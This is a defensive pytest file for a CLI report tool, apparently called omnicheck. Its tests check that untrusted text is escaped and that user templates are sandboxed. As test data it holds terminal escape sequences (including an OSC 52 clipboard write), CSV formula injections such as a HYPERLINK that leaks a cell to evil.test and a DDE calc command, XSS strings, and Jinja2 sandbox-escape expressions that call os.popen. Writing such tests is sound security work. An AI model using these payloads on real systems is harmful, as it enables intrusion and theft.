"""Text from other people reaches no terminal, document or spreadsheet with its power intact.

A business name, a note, an "other" channel's name or a survey cell can hold
terminal control sequences (a window title, an OSC 52 clipboard write, a
screen clear), C1 controls, NUL and bidi overrides; a rubric from somebody
else can hold HTML and links. Every command that shows such text must show
it escaped, and a spreadsheet must never read a cell as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from omnicheck.cli.app import app
from omnicheck.printable import json_safe, printable, spreadsheet_cell
from tests.conftest import ROOT

runner = CliRunner()
OUTDOOR = ROOT / "examples" / "outdoor-retailer.yaml"
MINIMAL = ROOT / "tests" / "rubrics" / "minimal.yaml"

#: Control sequences as YAML double-quoted escapes: YAML refuses them raw.
HOSTILE_YAML = r"\e]0;pwned\a \e]52;c;ZXZpbA==\a \e[2J \x9b31m \0 \u202e \x7f \u2028"
#: The same text as Python holds it once read.
HOSTILE = "\x1b]0;pwned\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[2J \x9b31m \x00 \u202e \x7f \u2028"
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")


def assert_clean(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(text)})
    assert not found, f"control characters reached the output: {found}"


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    assert "Traceback" not in result.output
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The outdoor retailer with hostile text in its name, notes and an "other" channel."""
    text = OUTDOOR.read_text(encoding="utf-8")
    edits = [
        ("  name: Northfield Outdoor", f'  name: "Evil {HOSTILE_YAML} Co"'),
        ("  location: Northern England", f'  location: "North {HOSTILE_YAML}"'),
        (
            "channels: [physical_store, online_store, email, social_media, paid_ads, phone]",
            "channels: [physical_store, online_store, email, social_media, paid_ads, phone, other]"
            f'\n  channels_other: "Chan {HOSTILE_YAML}"'
            "\n  record.other: manual\n  handoff.other: [email@purchase]",
        ),
    ]
    for old, new in edits:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    path = tmp_path / "evil.yaml"
    path.write_text(text, encoding="utf-8")
    return path


# --- the terminal --------------------------------------------------------------


def test_printable_shows_controls_as_escapes():
    assert printable(HOSTILE) == (
        r"\x1b]0;pwned\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[2J \x9b31m \x00 \u202e \x7f \u2028"
    )
    assert printable("two\nlines\tand a tab, CRLF\r\nend\r") == (
        "two\nlines\tand a tab, CRLF\nend\\x0d"
    )
    assert printable("Café · 東京 ✓") == "Café · 東京 ✓"


@pytest.mark.parametrize(
    "args",
    [
        ["report", "{f}"],
        ["report", "{f}", "--format", "md"],
        ["report", "{f}", "--format", "html"],
        ["validate", "{f}"],
        ["batch", "{f}"],
        ["batch", "{f}", "--format", "md"],
        ["batch", "{f}", "--format", "json"],
        ["diff", str(OUTDOOR), "{f}"],
        ["diff", str(OUTDOOR), "{f}", "--format", "md"],
        ["diff", "{f}", str(OUTDOOR), "--format", "html"],
    ],
    ids=" ".join,
)
def test_hostile_answers_reach_no_terminal_raw(hostile, args):
    status, out, err = run(*[a.replace("{f}", str(hostile)) for a in args])
    assert status == 0, err
    assert_clean(out)
    assert_clean(err)
    shown = args[0] == "diff" or args[0] == "report" or args == ["batch", "{f}"]
    if shown:  # validate names the business with repr(), and a portfolio names none
        assert "pwned" in out and "ZXZpbA==" in out  # shown, not swallowed


@pytest.mark.parametrize("fmt", ["md", "html", "json", "text"])
def test_report_files_hold_no_raw_controls(hostile, tmp_path, fmt):
    out = tmp_path / f"report.{ {'text': 'txt'}.get(fmt, fmt) }"
    status, _, err = run("report", str(hostile), "--format", fmt, "-o", str(out))
    assert status == 0, err
    assert_clean(out.read_text(encoding="utf-8"))


def test_json_keeps_the_text_exactly(hostile):
    status, out, _ = run("report", str(hostile), "--format", "json")
    assert status == 0
    assert_clean(out)
    report = json.loads(out)
    assert report["business"]["name"] == f"Evil {HOSTILE} Co"
    assert report["business"]["details"]["location"] == f"North {HOSTILE}"
    assert json_safe(json.dumps("\x9b\u202e", ensure_ascii=False)) == '"\\u009b\\u202e"'


def test_batch_rows_and_summary_files_hold_no_raw_controls(hostile, tmp_path):
    rows, summary = tmp_path / "rows.csv", tmp_path / "portfolio.md"
    status, _, err = run("batch", str(hostile), "-o", str(rows), "--summary", str(summary))
    assert status == 0, err
    assert_clean(rows.read_text(encoding="utf-8"))
    assert_clean(summary.read_text(encoding="utf-8"))
    with rows.open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["name"] == f"Evil {printable(HOSTILE)} Co"


def test_survey_cells_reach_no_terminal_raw(tmp_path):
    """Survey exports carry raw control characters: CSV has no escapes to refuse them."""
    from omnicheck.loading import answers_from, rubric_from
    from tests.conftest import survey_cells, write_survey

    rubric = rubric_from(None)
    good = survey_cells(answers_from(OUTDOOR, rubric).answers)
    survey = write_survey(
        tmp_path / "survey.csv",
        rubric,
        [{**good, "name": f"Row {HOSTILE}"}, {**good, "name": f"Bad {HOSTILE}", "goal": HOSTILE}],
    )
    for args in (["batch", str(survey)], ["batch", str(survey), "--format", "json"]):
        status, out, err = run(*args)
        assert status == 3
        assert_clean(out)
        assert_clean(err)
        assert "\\x1b]0;pwned" in out


def test_a_hostile_file_name_reaches_no_terminal_raw(tmp_path):
    """A folder given to batch may hold files that somebody else named."""
    folder = tmp_path / "clients"
    folder.mkdir()
    shutil.copy(OUTDOOR, folder / "good \x1b]0;pwned\x07.yaml")
    bad = folder / "bad \x1b]52;c;ZXZpbA==\x07 \u202e.yaml"
    bad.write_text("rubric: {id: omnichannel, version: '1.0'}\nanswers: {goal: x}\n")
    status, out, err = run("batch", str(folder))
    assert status == 3
    assert_clean(out)
    assert_clean(err)
    status, out, err = run("validate", str(bad))
    assert status == 2
    assert_clean(err)
    assert err.startswith(f"{printable(str(bad))}:")


def test_hostile_answers_in_validate_errors(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "rubric: {id: omnichannel, version: '1.0'}\n"
        f'business: {{name: "X {HOSTILE_YAML}"}}\n'
        f'answers: {{goal: "{HOSTILE_YAML}", "{HOSTILE_YAML}": yes}}\n',
        encoding="utf-8",
    )
    status, out, err = run("validate", str(bad))
    assert status == 2
    assert_clean(out + err)
    assert len(err.splitlines()) >= 2


@pytest.fixture
def hostile_rubric(tmp_path: Path) -> Path:
    """The minimal rubric with control sequences in the text that screens show."""
    text = MINIMAL.read_text(encoding="utf-8")
    edits = [
        ("title: Minimal rubric", f'title: "Minimal {HOSTILE_YAML}"'),
        ("name: Customer data\n", f'name: "Data {HOSTILE_YAML}"\n'),
        ("text: Start one customer list.", f'text: "Start {HOSTILE_YAML}"'),
        ("text: What is your goal?", f'text: "Goal {HOSTILE_YAML}?"'),
    ]
    for old, new in edits:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    path = tmp_path / "hostile-rubric.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def minimal_answers(tmp_path: Path, name: str = "Min Co") -> Path:
    path = tmp_path / "min.yaml"
    path.write_text(
        "rubric: {id: minimal, version: '1'}\n"
        f"business: {{name: {json.dumps(name)}}}\n"
        "answers:\n  goal: loyalty\n  channels: [web, store]\n  data.record: none\n"
        "  record.web: none\n  record.store: manual\n"
        "  handoff.web: [store@purchase]\n  handoff.store: []\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    "args",
    [
        ["report", "{a}"],
        ["report", "{a}", "--format", "md"],
        ["template"],
        ["schema"],
        ["batch", "{a}"],
    ],
    ids=" ".join,
)
def test_hostile_rubric_text_reaches_no_terminal_raw(tmp_path, hostile_rubric, args):
    answers = minimal_answers(tmp_path)
    argv = [a.replace("{a}", str(answers)) for a in args] + ["--rubric", str(hostile_rubric)]
    status, out, err = run(*argv)
    assert status == 0, err
    assert_clean(out)
    assert_clean(err)


def test_rubric_lint_quotes_hostile_rubric_text_escaped(tmp_path, hostile_rubric):
    text = hostile_rubric.read_text(encoding="utf-8")
    hostile_rubric.write_text(text + f'"{HOSTILE_YAML}": 1\n', encoding="utf-8")
    status, out, err = run("rubric", "lint", str(hostile_rubric))
    assert status == 2
    assert_clean(out + err)
    assert "pwned" in out


def test_the_template_of_a_hostile_rubric_still_reads_back(tmp_path, hostile_rubric):
    """YAML refuses raw control characters even in comments: escaped, the file loads."""
    out = tmp_path / "answers.yaml"
    status, _, err = run("template", "-o", str(out), "--rubric", str(hostile_rubric))
    assert status == 0, err
    assert_clean(out.read_text(encoding="utf-8"))
    status, _, err = run("validate", str(out), "--rubric", str(hostile_rubric))
    assert status == 2
    assert "missing answer" in err  # read as YAML, then found unanswered


# --- spreadsheets ----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading return",
]


def test_spreadsheet_cells_never_start_a_formula():
    assert [spreadsheet_cell(f) for f in FORMULAS] == [
        '\'=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+1",
        "'-2+3",
        "'\tleading tab",
        "\\x0dleading return",  # CR is shown as an escape, which no spreadsheet runs
    ]
    assert spreadsheet_cell("Acme = best") == "Acme = best"
    assert spreadsheet_cell("") == ""


def test_batch_csv_neutralises_formulas(tmp_path, monkeypatch):
    from omnicheck.loading import answers_from, rubric_from
    from tests.conftest import survey_cells, write_survey

    rubric = rubric_from(None)
    good = survey_cells(answers_from(OUTDOOR, rubric).answers)
    # Names are stripped as they are read, so a leading tab or CR never gets this far.
    rows = [{**good, "name": name} for name in [*FORMULAS[:4], "Plain Co"]]
    survey = write_survey(tmp_path / "survey.csv", rubric, rows)
    # Answers files whose own name is a formula, given by that name: the source cell.
    monkeypatch.chdir(tmp_path)
    files = [("=1+2.yaml", "'-1'"), ("@x.yaml", '"+x"')]
    for file_name, business in files:
        text = OUTDOOR.read_text(encoding="utf-8").replace("Northfield Outdoor", business)
        Path(file_name).write_text(text, encoding="utf-8")
    out = tmp_path / "rows.csv"
    status, _, err = run("batch", str(survey), *(f for f, _ in files), "-o", str(out))
    assert status == 0, err
    with out.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    names = [c["name"] for c in cells]
    assert names == [
        '\'=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+1",
        "'-2+3",
        "Plain Co",
        "'-1",
        "'+x",
    ]
    assert [c["source"] for c in cells[-2:]] == ["'=1+2.yaml", "'@x.yaml"]
    # The scores are numbers that omnicheck computed: written as numbers, no quote.
    for cell in cells:
        numbers = [v for k, v in cell.items() if k == "index" or k.startswith("dimension.")]
        assert all(float(v) >= 0 for v in numbers)
    formula = ("=", "+", "-", "@", "\t", "\r")
    assert not any(v.startswith(formula) for c in cells for v in c.values())


def test_batch_csv_on_stdout_neutralises_formulas(tmp_path):
    path = tmp_path / "a.yaml"
    path.write_text(
        OUTDOOR.read_text(encoding="utf-8").replace("Northfield Outdoor", '"@cmd"'),
        encoding="utf-8",
    )
    status, out, _ = run("batch", str(path))
    assert status == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["name"] == "'@cmd"


# --- Markdown from a rubric -------------------------------------------------------

XSS_IMG = "<img src=x onerror=alert(1)>"


@pytest.fixture
def link_rubric(tmp_path: Path) -> Path:
    """The minimal rubric with evidence and text that try to inject HTML and links."""
    text = MINIMAL.read_text(encoding="utf-8")
    edits = [
        (
            "text: Start one customer list.",
            f'text: "Start [here](javascript:alert(1)) {XSS_IMG}"',
        ),
        ("evidence: [test-evidence]}", "evidence: [test-evidence, second]}"),
        (
            "    finding: A placeholder finding for tests; it states no figure.\n",
            "    finding: 'See [the study](javascript:alert(1)) ![x](javascript:alert(2))'\n",
        ),
        ("    caveat: Test data only.\n", f"    caveat: '{XSS_IMG} &lt;b&gt;'\n"),
        (
            "    source: {title: Test source, publisher: omnicheck tests}",
            f"    source: {{title: '<script>alert(1)</script>', publisher: '{XSS_IMG}',"
            " url: 'javascript:alert(1)', note: '<b>bold</b>'}\n"
            "  - id: second\n    finding: Second.\n    caveat: None.\n"
            "    source: {title: T, publisher: P,"
            f" url: 'https://example.test/a>b {XSS_IMG}'}}",
        ),
    ]
    for old, new in edits:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    path = tmp_path / "links.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def rendered_links_and_html(markdown: str) -> tuple[list[str], str]:
    """What a permissive Markdown viewer makes of ``markdown``: its links, and its HTML.

    markdown-it (which rich depends on) renders CommonMark with raw HTML on;
    its own refusal of javascript: links is turned off, as some viewers have none.
    """
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True
    html = md.render(markdown)
    return re.findall(r'<(?:a href|img src)="([^"]*)"', html), html


def test_rubric_text_cannot_inject_links_or_html_into_markdown(tmp_path, link_rubric):
    answers = minimal_answers(tmp_path, name=f"{XSS_IMG} [x](javascript:alert(3)) &amp;")
    status, out, err = run("report", str(answers), "--rubric", str(link_rubric), "--format", "md")
    assert status == 0, err
    links, html = rendered_links_and_html(out)
    assert links == ["https://example.test/a%3Eb%20%3Cimg%20src=x%20onerror=alert(1)%3E"]
    assert "<img" not in html and "<script" not in html and "<b>" not in html
    # Shown as typed: the reader still sees what the rubric and the answers say.
    assert "Caveat: &lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;</em>" in html
    assert "&lt;b&gt;bold&lt;/b&gt;. javascript:alert(1)</p>" in html
    assert "report: &lt;img src=x onerror=alert(1)&gt; [x](javascript:alert(3)) &amp;amp;<" in html


def test_html_report_of_the_same_rubric_stays_safe(tmp_path, link_rubric):
    answers = minimal_answers(tmp_path)
    status, out, err = run("report", str(answers), "--rubric", str(link_rubric), "--format", "html")
    assert status == 0, err
    assert "<img" not in out and "<script" not in out and "<b>" not in out
    assert re.findall(r'href="([^"#][^"]*)"', out) == [
        "https://example.test/a&gt;b &lt;img src=x onerror=alert(1)&gt;"
    ]


# --- --templates ------------------------------------------------------------------


@pytest.mark.parametrize(
    "expression",
    [
        "cycler.__init__.__globals__.os.popen('touch PWNED').read()",
        "lipsum.__globals__['os'].popen('touch PWNED').read()",
        "self._TemplateReference__context.cycler.__init__.__globals__.os.popen('touch PWNED')",
        "r.__class__.__mro__[1].__subclasses__()",
    ],
)
def test_user_templates_run_in_a_sandbox(tmp_path, monkeypatch, expression):
    monkeypatch.chdir(tmp_path)
    brand = tmp_path / "brand"
    brand.mkdir()
    (brand / "report.md.j2").write_text(f"# {{{{ r.business.name }}}}\n{{{{ {expression} }}}}\n")
    out = tmp_path / "report.md"
    status, _, err = run(
        "report", str(OUTDOOR), "-o", str(out), "--templates", str(brand), "--format", "md"
    )
    assert status == 2, err
    assert err.startswith(f"{brand / 'report.md.j2'}:2: template error: ")
    assert "unsafe" in err
    assert len(err.splitlines()) == 1
    assert not (tmp_path / "PWNED").exists()
    assert not out.exists()


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_the_sandbox_renders_the_bundled_templates_unchanged(tmp_path, fmt):
    """An empty --templates folder puts every bundled template in the sandbox."""
    empty = tmp_path / "empty"
    empty.mkdir()
    _, plain, _ = run("report", str(OUTDOOR), "--format", fmt)
    status, sandboxed, err = run("report", str(OUTDOOR), "--format", fmt, "--templates", str(empty))
    assert status == 0, err
    assert sandboxed == plain


def test_sandboxed_templates_never_load_bytecode_compiled_outside_the_sandbox(
    tmp_path, monkeypatch
):
    """Unsandboxed bytecode calls functions unchecked; the two kinds are cached apart."""
    monkeypatch.setenv("OMNICHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("OMNICHECK_NO_CACHE", raising=False)
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run("report", str(OUTDOOR), "--format", "md")[0] == 0
    plain = {p.name for p in (tmp_path / "cache" / "templates").iterdir()}
    assert run("report", str(OUTDOOR), "--format", "md", "--templates", str(empty))[0] == 0
    both = {p.name for p in (tmp_path / "cache" / "templates").iterdir()}
    sandboxed = both - plain
    assert plain and all(not name.startswith("__jinja2_sandboxed_") for name in plain)
    assert sandboxed and all(name.startswith("__jinja2_sandboxed_") for name in sandboxed)


@pytest.mark.parametrize(("name", "fmt"), [("report.md.j2", "md"), ("html_brand.html.j2", "html")])
def test_a_windows_1252_template_is_a_located_input_error(tmp_path, name, fmt):
    brand = tmp_path / "brand"
    brand.mkdir()
    (brand / name).write_bytes("<p>Prepared by\nCaf\u00e9 Consulting</p>\n".encode("cp1252"))
    out = tmp_path / f"report.{fmt}"
    status, _, err = run(
        "report", str(OUTDOOR), "-o", str(out), "--templates", str(brand), "--format", fmt
    )
    assert status == 2, err
    assert err == f"{brand / name}:2:4: is not UTF-8 text (byte 0xe9); save it as UTF-8\n"
    assert not out.exists()


@pytest.mark.parametrize("args", [["report", "{f}"], ["diff", str(OUTDOOR), "{f}"]], ids=" ".join)
def test_the_terminal_shows_every_control_as_the_other_formats_do(hostile, args):
    """rich drops BEL (the end of an OSC sequence) and a line separator would break the
    line: both are shown as escapes, exactly as in the Markdown."""
    status, out, err = run(*[a.replace("{f}", str(hostile)) for a in args])
    assert status == 0, err
    assert "".join(printable(HOSTILE).split()) in "".join(out.split())  # however it wraps
